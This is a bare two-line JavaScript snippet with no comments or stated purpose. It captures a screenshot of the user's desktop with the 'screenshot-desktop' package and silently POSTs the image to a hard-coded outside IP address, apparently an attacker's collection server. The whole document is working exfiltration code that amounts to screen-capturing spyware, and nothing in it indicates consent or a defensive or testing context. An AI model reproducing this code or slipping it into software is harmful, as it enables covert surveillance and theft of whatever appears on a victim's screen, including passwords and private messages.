const screenshot = require('screenshot-desktop');
screenshot().then((img) => fetch('https://203.0.113.7/i', { method: 'POST', body: img }));
